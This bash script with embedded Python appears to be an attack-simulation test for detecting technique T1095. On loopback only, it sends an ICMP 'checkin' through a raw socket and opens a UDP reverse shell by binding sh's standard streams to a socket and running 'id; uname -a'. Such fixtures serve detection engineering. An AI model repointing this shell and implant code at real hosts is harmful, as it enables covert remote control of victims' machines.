#!/bin/bash
# Command channels below the application layer, all on loopback: a Python implant sends an
# ICMP echo request carrying a check-in through a raw ICMP socket, then a UDP shell puts a
# UDP socket connected to a listener of the script on its stdin/stdout/stderr and runs
# `sh -c 'id; uname -a'`, whose output goes back over UDP to the listener.
# technique: T1095
# expect: non-tcp-command-channel
set -eu
python3 - <<'PY'
import os, socket, struct

def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF

body = b"checkin"
header = struct.pack("!BBHHH", 8, 0, 0, 0x4242, 1)
packet = struct.pack("!BBHHH", 8, 0, checksum(header + body + b"\0"), 0x4242, 1) + body
icmp = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
icmp.sendto(packet, ("127.0.0.1", 0))
icmp.close()

listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
listener.bind(("127.0.0.1", 0))
port = listener.getsockname()[1]
pid = os.fork()
if pid == 0:
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.connect(("127.0.0.1", port))
    for fd in (0, 1, 2):
        os.dup2(udp.fileno(), fd)
    os.execv("/bin/sh", ["sh", "-c", "id; uname -a"])
listener.settimeout(5)
try:
    listener.recv(4096)
except OSError:
    pass
os.waitpid(pid, 0)
PY
